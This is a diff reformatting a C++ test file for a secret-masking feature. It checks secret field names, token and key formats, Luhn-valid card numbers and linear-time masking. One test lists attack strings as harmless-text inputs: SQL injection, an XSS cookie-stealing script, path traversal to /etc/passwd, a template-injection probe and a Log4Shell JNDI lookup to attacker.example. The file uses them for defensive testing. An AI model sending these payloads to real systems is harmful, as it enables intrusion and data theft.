@@ -22,29 +22,112 @@ void check(const std::vector<Row>& rows) {
 }
 
 /// A key as `weir apikey generate` makes them, put together so that no scanner takes this file for a leak.
-std::string own_key(const std::string& prefix = "wr") { return prefix + "_" + "Zk3vQ8pL1nT6yB2mX9cR4sW7" + "dF0gH5jK-aE_uI3oP8qzM"; }
-std::string jwt() { return std::string("eyJhbGciOiJIUzI1NiJ9") + ".eyJzdWIiOiI0MiJ9" + ".c2lnbmF0dXJlLW9mLXRva2Vu"; }
+std::string own_key(const std::string& prefix = "wr") {
+  return prefix + "_" + "Zk3vQ8pL1nT6yB2mX9cR4sW7" + "dF0gH5jK-aE_uI3oP8qzM";
+}
+std::string jwt() {
+  return std::string("eyJhbGciOiJIUzI1NiJ9") + ".eyJzdWIiOiI0MiJ9" + ".c2lnbmF0dXJlLW9mLXRva2Vu";
+}
 
 }  // namespace
 
 TEST_CASE("names of secrets are recognised in every spelling", "[alert][masking]") {
-  for (const char* name : {"password", "Password", "user_password", "user[password]", "userPassword", "password2", "passwd", "pwd",
-                           "pass", "passphrase", "token", "access_token", "accessToken", "ACCESS-TOKEN", "csrf-token", "authToken",
-                           "id_token", "Authorization", "proxy-authorization", "cookie", "Set-Cookie", "x-api-key", "api_key",
-                           "apikey", "apiKey", "APIKEY", "X-Auth-Token", "secret", "client_secret", "clientSecret", "session",
-                           "sessionid", "session_id", "PHPSESSID", "JSESSIONID", "ASPSESSIONIDQQ", "connect.sid", "sid",
-                           "credentials", "private_key", "privateKey", "card_number", "cardNumber", "cc-number", "cvv", "pin",
-                           "otp", "jwt", "SAMLResponse", "X-Amz-Signature", "x-amz-security-token", "credit_card"}) {
+  for (const char* name : {"password",
+                           "Password",
+                           "user_password",
+                           "user[password]",
+                           "userPassword",
+                           "password2",
+                           "passwd",
+                           "pwd",
+                           "pass",
+                           "passphrase",
+                           "token",
+                           "access_token",
+                           "accessToken",
+                           "ACCESS-TOKEN",
+                           "csrf-token",
+                           "authToken",
+                           "id_token",
+                           "Authorization",
+                           "proxy-authorization",
+                           "cookie",
+                           "Set-Cookie",
+                           "x-api-key",
+                           "api_key",
+                           "apikey",
+                           "apiKey",
+                           "APIKEY",
+                           "X-Auth-Token",
+                           "secret",
+                           "client_secret",
+                           "clientSecret",
+                           "session",
+                           "sessionid",
+                           "session_id",
+                           "PHPSESSID",
+                           "JSESSIONID",
+                           "ASPSESSIONIDQQ",
+                           "connect.sid",
+                           "sid",
+                           "credentials",
+                           "private_key",
+                           "privateKey",
+                           "card_number",
+                           "cardNumber",
+                           "cc-number",
+                           "cvv",
+                           "pin",
+                           "otp",
+                           "jwt",
+                           "SAMLResponse",
+                           "X-Amz-Signature",
+                           "x-amz-security-token",
+                           "credit_card"}) {
     INFO(name);
     CHECK(is_secret_name(name));
   }
 }
 
 TEST_CASE("ordinary names are no secrets", "[alert][masking]") {
-  for (const char* name : {"", "id", "q", "page", "name", "author", "authors", "keyboard", "monkey", "key", "passenger", "passengers",
-                           "compass", "bypass", "tokens", "max_tokens", "tokenizer", "secretary", "sessions", "pinned", "spin",
-                           "shipping", "card", "number", "api", "user", "email", "content-type", "referer", "user-agent", "sort",
-                           "inside", "residence", "signal", "design", "cookies", "x-forwarded-for", "accept"}) {
+  for (const char* name : {"",
+                           "id",
+                           "q",
+                           "page",
+                           "name",
+                           "author",
+                           "authors",
+                           "keyboard",
+                           "monkey",
+                           "key",
+                           "passenger",
+                           "passengers",
+                           "compass",
+                           "bypass",
+                           "tokens",
+                           "max_tokens",
+                           "tokenizer",
+                           "secretary",
+                           "sessions",
+                           "pinned",
+                           "spin",
+                           "shipping",
+                           "card",
+                           "number",
+                           "api",
+                           "user",
+                           "email",
+                           "content-type",
+                           "referer",
+                           "user-agent",
+                           "sort",
+                           "inside",
+                           "residence",
+                           "signal",
+                           "design",
+                           "cookies",
+                           "x-forwarded-for",
+                           "accept"}) {
     INFO(name);
     CHECK_FALSE(is_secret_name(name));
   }
@@ -122,9 +205,9 @@ TEST_CASE("passwords in URLs are masked", "[alert][masking]") {
 
 TEST_CASE("keys and tokens are masked by their form alone", "[alert][masking]") {
   for (const std::string& secret :
-       {own_key(), own_key("abcd"), jwt(), std::string("AKIA") + "IOSFODNN7EXAMPLE", std::string("ghp_") + std::string(36, 'a'),
-        std::string("sk_live_") + "4eC39HqLyjWDarjtT1zd", std::string("xoxb-") + "123456789012-abc",
-        std::string("AIza") + std::string(35, 'S')}) {
+       {own_key(), own_key("abcd"), jwt(), std::string("AKIA") + "IOSFODNN7EXAMPLE",
+        std::string("ghp_") + std::string(36, 'a'), std::string("sk_live_") + "4eC39HqLyjWDarjtT1zd",
+        std::string("xoxb-") + "123456789012-abc", std::string("AIza") + std::string(35, 'S')}) {
     INFO(secret);
     const std::string shown = "***" + secret.substr(secret.size() - 4);
     CHECK(mask_text(secret) == shown);
@@ -151,23 +234,49 @@ TEST_CASE("card numbers that pass the Luhn check are masked", "[alert][masking]"
 }
 
 TEST_CASE("text without secrets stays as it is", "[alert][masking]") {
-  for (const std::string text :
-       {"", "/", "/products/1234567890123456?page=2&sort=name", "author=bob&keyboard=qwerty", "ts=1736942400123&id=1736942400456789",
-        "550e8400-e29b-41d4-a716-446655440000", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
-        "id=7' UNION SELECT login,password FROM accounts--", "' OR '1'='1", "<script>alert(document.cookie)</script>",
-        "../../../../etc/passwd", "{{7*7}}{{config.__class__.__init__.__globals__}}", "${jndi:ldap://attacker.example/x}",
-        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "basic training program", "the bearer of good news",
-        "Basic authentication", "max_tokens=256", "100% of 50%2", "%", "%%%2", "a%00b%ff", "file_name_of_the_quarterly_report_final",
-        "get_UserProfile2", "http://example.com:8080/a?b=c", "utm_source=news&utm_campaign=spring2024", "eyJ", "eyJ.eyJ.",
-        "+49 170 1234567", "2025-01-15 12:00:00", "127.0.0.1:8080", "x[a][b][c]=1", "a=b=c", "caf\xc3\xa9 \xff\xfe"}) {
+  for (const std::string text : {"",
+                                 "/",
+                                 "/products/1234567890123456?page=2&sort=name",
+                                 "author=bob&keyboard=qwerty",
+                                 "ts=1736942400123&id=1736942400456789",
+                                 "550e8400-e29b-41d4-a716-446655440000",
+                                 "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+                                 "id=7' UNION SELECT login,password FROM accounts--",
+                                 "' OR '1'='1",
+                                 "<script>alert(document.cookie)</script>",
+                                 "../../../../etc/passwd",
+                                 "{{7*7}}{{config.__class__.__init__.__globals__}}",
+                                 "${jndi:ldap://attacker.example/x}",
+                                 "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+                                 "basic training program",
+                                 "the bearer of good news",
+                                 "Basic authentication",
+                                 "max_tokens=256",
+                                 "100% of 50%2",
+                                 "%",
+                                 "%%%2",
+                                 "a%00b%ff",
+                                 "file_name_of_the_quarterly_report_final",
+                                 "get_UserProfile2",
+                                 "http://example.com:8080/a?b=c",
+                                 "utm_source=news&utm_campaign=spring2024",
+                                 "eyJ",
+                                 "eyJ.eyJ.",
+                                 "+49 170 1234567",
+                                 "2025-01-15 12:00:00",
+                                 "127.0.0.1:8080",
+                                 "x[a][b][c]=1",
+                                 "a=b=c",
+                                 "caf\xc3\xa9 \xff\xfe"}) {
     INFO(text);
     CHECK(mask_text(text) == text);
   }
 }
 
 TEST_CASE("masking masked text changes nothing", "[alert][masking]") {
-  for (const std::string text : {"password=hunter2&x=1", "Authorization: Bearer abc.def-1234567", "Cookie: a=1; b=0123456789abcdef",
-                                 "access_token=0123456789abcdef", "n=4111111111111111"}) {
+  for (const std::string text :
+       {"password=hunter2&x=1", "Authorization: Bearer abc.def-1234567", "Cookie: a=1; b=0123456789abcdef",
+        "access_token=0123456789abcdef", "n=4111111111111111"}) {
     INFO(text);
     CHECK(mask_text(mask_text(text)) == mask_text(text));
   }
@@ -184,15 +293,18 @@ TEST_CASE("Basic credentials are recognised by what they decode to", "[alert][ma
 TEST_CASE("masking takes time linear in the text, whatever it is", "[alert][masking]") {
   const auto seconds_of = [](const std::string& part, size_t size) {
     std::string text;
-    while (text.size() < size) text += part;
+    while (text.size() < size)
+      text += part;
     const auto begin = std::chrono::steady_clock::now();
     const auto masked = mask_text(text);
     CHECK(masked.size() <= 3 * text.size());
     return std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count();
   };
-  for (const char* part : {"a", "password=", "password[", "a[b]", "a[b][c]=", "basic+", "bearer ", "eyJ", "eyJ.", "a.eyJa", "http://", "a:b@", "://a:",
-                           "4", "4 ", "4-", "\"password\":\"", "password:{", "cookie: ", "cookie=;", "token:", "%22", "%5B", "<password>",
-                           "\\\"", "password=\\\"", "wr_", "=", " ", ";", "cookie: a;;;"}) {
+  for (const char* part : {"a",   "password=", "password[",       "a[b]",       "a[b][c]=",      "basic+",   "bearer ",
+                           "eyJ", "eyJ.",      "a.eyJa",          "http://",    "a:b@",          "://a:",    "4",
+                           "4 ",  "4-",        "\"password\":\"", "password:{", "cookie: ",      "cookie=;", "token:",
+                           "%22", "%5B",       "<password>",      "\\\"",       "password=\\\"", "wr_",      "=",
+                           " ",   ";",         "cookie: a;;;"}) {
     INFO(part);
     CHECK(seconds_of(part, 1 << 20) < 2.0);
   }
